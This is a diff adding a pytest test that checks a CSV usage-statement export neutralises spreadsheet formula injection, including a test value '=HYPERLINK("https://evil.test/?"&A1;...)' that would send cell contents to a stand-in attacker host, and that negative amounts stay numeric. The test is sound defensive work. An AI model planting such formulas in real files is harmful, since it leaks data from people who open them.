@@ -130,3 +130,26 @@ def test_the_csv_opens_in_a_spreadsheet_with_the_expected_columns(acme, march):
 def test_a_malformed_month_is_refused(text):
     with pytest.raises(ValueError):
         usage.parse_month(text)
+
+
+def test_the_csv_defuses_names_a_spreadsheet_would_run_and_keeps_amounts_numbers(
+    acme, march, scope
+):
+    acme.name = '=HYPERLINK("https://evil.test/?"&A1;"Invoice")'
+    acme.save()
+    scope.resource.name = "@SUM(A1:A9)"
+    scope.resource.save()
+    statement = usage.statement_for(acme, MARCH)
+    rows = list(
+        csv.reader(
+            io.StringIO(usage.to_csv(statement, decimal_comma=True).decode("utf-8-sig")),
+            delimiter=";",
+        )
+    )
+    machine = next(r for r in rows if r[2] == "EQ-OSC-1")
+    assert machine[3] == "'@SUM(A1:A9)"
+    total = rows[-1]
+    assert total[3] == '\'=HYPERLINK("https://evil.test/?"&A1;"Invoice")'
+    credit = next(r for r in rows if r[1] == "credit")
+    assert credit[-1] == "-30,00"  # a negative amount stays a number
+    assert next(r for r in rows if r[1] == "total_credit")[-1] == "-40,00"
